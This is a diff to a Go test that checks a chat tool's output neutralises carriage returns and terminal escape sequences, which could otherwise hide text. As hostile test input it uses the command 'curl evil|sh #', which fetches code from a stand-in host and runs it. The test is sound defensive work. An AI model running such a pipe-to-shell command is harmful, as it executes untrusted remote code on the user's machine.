@@ -78,7 +78,8 @@ func TestChatReplacesControlCharacters(t *testing.T) {
 	if err := r.wait(t); err == nil {
 		t.Error("the turn failed, but the command succeeded")
 	}
-	if out := r.out.String(); strings.ContainsAny(out, "\r\x1b") || strings.Count(out, "curl evil|sh #��[2K  $ ls") != 8 {
+	if out := r.out.String(); strings.ContainsAny(out, "\r\x1b") || strings.Count(out, "curl evil|sh #") != 8 ||
+		!strings.Contains(out, "  $ curl evil|sh #␍�[2K  $ ls\n") {
 		t.Errorf("output is %q", out)
 	}
 }
